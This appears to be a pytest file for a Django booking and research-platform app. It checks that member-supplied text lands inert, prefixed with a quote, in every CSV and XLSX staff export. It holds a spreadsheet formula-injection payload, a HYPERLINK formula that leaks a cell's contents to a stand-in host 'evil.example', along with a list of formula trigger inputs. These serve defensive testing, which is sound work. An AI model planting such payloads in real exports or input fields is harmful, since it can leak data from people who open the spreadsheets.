"""Spreadsheet formula injection (issue 9, defect 6): member text reaches every staff export as inert text.

Each export is read back as a spreadsheet would read it: the CSV with `csv`, the XLSX with openpyxl (a formula
cell is `data_type == "f"`). Headers: row 1 in the user's language, row 2 the stable machine names.
"""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from guichet.core import exports
from guichet.core.workdays import PARIS
from guichet.directory.exchange import check, plan, records, xlsx
from guichet.directory.models import Organization

from .factories import (
    BookingFactory,
    InstrumentFactory,
    MembershipFactory,
    OrganizationFactory,
    PlatformFactory,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")'
TRIGGERS = ["=1+2", "+33 4 91", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content  # antibody batches
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def read_xlsx(response):
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content))


def formula_cells(workbook):
    return [c.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


def assert_inert_in_csv(rows, text=EVIL):
    cells = [c for row in rows for c in row]
    assert "'" + text in cells
    assert not any(c.startswith(exports.FORMULA_TRIGGERS) for c in cells if c != "-")


def assert_inert_in_xlsx(workbook, text=EVIL):
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value == text]
    assert cells, "the member's text is in the workbook, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


# --- the helper --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", TRIGGERS)
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(text):
    assert exports.csv_cell(text) == "'" + text
    assert exports.csv_cell("Plain =text") == "Plain =text"


def test_numbers_and_dates_stay_numbers_negative_ones_included():
    assert exports.csv_cell(Decimal("-12.50")) == "-12.50" and exports.csv_cell(-3) == "-3"
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes([exports.Sheet(
        "s", [("a", "A"), ("b", "B"), ("c", "C"), ("d", "D"), ("e", "E")],
        [[Decimal("-12.50"), -3, datetime(2026, 3, 1, 9, 30, tzinfo=PARIS), "-3", exports.Formula("=SUM(A3:B3)")]])])))
    a, b, c, d, e = workbook.active[3]
    assert (a.data_type, a.value) == ("n", -12.5) and (b.data_type, b.value) == ("n", -3)
    assert c.is_date and c.value == datetime(2026, 3, 1, 9, 30)
    assert (d.data_type, d.value, d.quotePrefix) == ("s", "-3", True)  # member text that looks like a number
    assert (e.data_type, e.value) == ("f", "=SUM(A3:B3)")  # our own formula


def test_headers_are_translated_with_a_machine_name_row():
    from django.utils import translation

    columns = [("title", "Title"), ("status", "Status")]
    with translation.override("fr"):
        rows = list(csv.reader(io.StringIO(exports.csv_text(
            [(n, translation.gettext(label)) for n, label in columns], []))))
    assert rows == [["Titre", "Statut"], ["title", "status"]]


def test_control_characters_that_xlsx_cannot_hold_do_not_break_the_export():
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes([exports.Sheet("s", ["a"], [["bad\x0bvalue"]])])))
    assert workbook.active["A2"].value == "badvalue"


# --- every export --------------------------------------------------------------------------------------------

@pytest.fixture
def booked(member, staff):
    """Two hours of `member` (named like a formula) on a lab's sorter, under a cost centre that is one."""
    org = OrganizationFactory(key="lab", name="Lab")
    instrument = InstrumentFactory(key="cyto.aria", name="Sorter", hourly_academic=Decimal("45.00"),
                                   platform=PlatformFactory(key="cyto", name="Cytometry", organization=org))
    member.full_name = "+Mallory"
    member.save()
    MembershipFactory(user=member, organization=org)
    BookingFactory(instrument=instrument, user=member, organization=org, cost_centre=EVIL,
                   start=datetime(2026, 10, 6, 10, tzinfo=PARIS), end=datetime(2026, 10, 6, 12, tzinfo=PARIS),
                   status="completed")
    return {"member": member, "staff": staff}


def test_statement_csv_keeps_member_text_inert_and_amounts_numeric(client, booked):
    client.force_login(booked["staff"])
    rows = read_csv(client.get("/bookings/statements.csv?month=2026-10", HTTP_ACCEPT_LANGUAGE="en"))
    assert rows[0][:3] == ["Organization", "Cost centre", "Kind"] and rows[1][:3] == ["organization",
                                                                                      "cost_centre", "kind"]
    assert_inert_in_csv(rows)
    line = rows[2]
    assert line[2] == "Booking" and line[6] == "hour" and line[9] == "Academic"  # labels, not codes
    assert "Sorter (+Mallory)" in line  # text that does not start with a trigger is left alone
    assert Decimal(line[8]) == Decimal("90.00")


def test_statement_xlsx_writes_member_text_as_strings_and_keeps_its_own_sum(client, booked):
    client.force_login(booked["staff"])
    workbook = read_xlsx(client.get("/bookings/statements.xlsx?month=2026-10", HTTP_ACCEPT_LANGUAGE="fr"))
    assert_inert_in_xlsx(workbook)
    sheet = workbook.active
    assert sheet["A1"].value == "Organisation" and sheet["A2"].value == "organization"
    assert sheet["C3"].value == "Réservation" and sheet["I3"].value == 90
    assert formula_cells(workbook) == ["I5"] and sheet["I5"].value == "=SUM(I3:I3)"


def test_desk_csv_keeps_a_members_title_inert(client, booked):
    from guichet.desk import services

    services.request_submit(actor=booked["member"], text="Nous cherchons un tri cellulaire de lymphocytes T",
                            title=EVIL)
    client.force_login(booked["staff"])
    rows = read_csv(client.get("/desk/export.csv", HTTP_ACCEPT_LANGUAGE="fr"))
    assert_inert_in_csv(rows)
    assert rows[1][:3] == ["reference", "submitted", "status"] and rows[0][2] == "Statut"
    assert rows[2][2] == "Nouvelle" and rows[2][3] == "non"  # the status label and a yes/no, in French


def test_antibody_csv_keeps_an_uploaded_name_inert(client, booked):
    from guichet.antibodies.models import Assessment

    chain = {"chain_type": "H", "errors": [], "v_gene": "IGHV3-66*01", "v_identity": 0.9, "j_gene": "IGHJ4*01",
             "oasis_9mer": 0.8, "cdrs": {"cdr1": "GFNIKDTY", "cdr2": "IYPTNGYT", "cdr3": "SRWGGDGFYAMDY"},
             "liabilities": [{"kind": "deamidation", "motif": "NG", "position": 55, "region": "cdr2"}]}
    assessment = Assessment.objects.create(owner=booked["member"], title="t",
                                           result=[{"name": EVIL, "heavy": chain, "light": None}])
    client.force_login(booked["member"])
    rows = read_csv(client.get(f"/antibodies/{assessment.pk}.csv", HTTP_ACCEPT_LANGUAGE="fr"))
    assert_inert_in_csv(rows)
    assert rows[1][0] == "antibody" and rows[0][0] == "Anticorps"
    names = rows[1]  # the machine-name row: the columns are found by name, wherever they stand
    assert rows[2][names.index("liabilities")] == "désamidation NG@55"
    assert rows[2][names.index("v_identity")] == "0.9"


def test_impact_exports_have_translated_headers_numeric_values_and_no_formula(client, booked):
    client.force_login(booked["staff"])
    q = "?start=2026-01-01&end=2026-12-31&as_of=2026-12-31"
    rows = read_csv(client.get("/impact/export.csv" + q, HTTP_ACCEPT_LANGUAGE="en"))
    assert rows[1][:3] == ["kpi", "label", "value"] and rows[0][1] == "Indicator"
    workbook = read_xlsx(client.get("/impact/export.xlsx" + q, HTTP_ACCEPT_LANGUAGE="en"))
    assert formula_cells(workbook) == []
    values = {row[0]: row[2] for row in workbook.worksheets[0].iter_rows(min_row=3, values_only=True)}
    assert values["members"] == 1 and isinstance(values["members"], int)


def test_directory_workbook_keeps_formula_like_text_inert_and_round_trips(small_directory):
    Organization.objects.filter(key="acme-bio").update(description=EVIL, city="-Marseille")
    payload = records.export_payload()
    data = xlsx.export_xlsx(payload)
    workbook = load_workbook(io.BytesIO(data))
    assert_inert_in_xlsx(workbook)
    assert formula_cells(workbook) == []
    assert [c.value for c in workbook["organizations"][1]] == xlsx.XLSX_COLUMNS["organizations"]
    parsed = xlsx.parse_xlsx(data)
    assert check.check_payload(parsed) == []
    assert plan.plan_import(parsed).summary == {"create": 0, "update": 0, "unchanged": 7}
    acme = next(o for o in parsed["organizations"] if o["key"] == "acme-bio")
    assert acme["description"] == EVIL and acme["city"] == "-Marseille"


def test_directory_export_view_serves_the_neutralised_workbook(client, small_directory, staff):
    Organization.objects.filter(key="acme-bio").update(description=EVIL)
    client.force_login(staff)
    assert_inert_in_xlsx(read_xlsx(client.get("/directory/export.xlsx")))


def test_pipelines_template_is_headers_only_and_formula_free():
    from guichet.impact import pipelines_import

    workbook = load_workbook(io.BytesIO(pipelines_import.template()))
    assert formula_cells(workbook) == []
    assert [s.title for s in workbook.worksheets] == list(pipelines_import.SHEETS)
    assert [c.value for c in workbook.worksheets[0][1]] == list(pipelines_import.SHEETS[workbook.sheetnames[0]])


def test_no_csv_or_workbook_is_written_outside_the_export_helper():
    """One door for every spreadsheet: a new export written with csv.writer or openpyxl directly would skip
    the neutralisation (reading spreadsheets, load_workbook / csv.reader, stays free)."""
    from .conftest import ROOT

    helper = ROOT / "src" / "guichet" / "core" / "exports.py"
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "src" / "guichet").rglob("*.py")
                 if path != helper and any(marker in path.read_text(encoding="utf-8")
                                           for marker in ("csv.writer", "csv.DictWriter", "Workbook(",
                                                          "import Workbook"))]
    assert offenders == []


def test_a_lone_dash_stays_a_dash_but_a_dash_formula_is_quoted():
    """A gap in the antibody numbering CSV is "-" (ANARCI's notation), not "'-"; "-1+2" is still inert."""
    from guichet.core.exports import csv_cell

    assert csv_cell("-") == "-"
    assert csv_cell("-1+2") == "'-1+2" and csv_cell("--") == "'--"
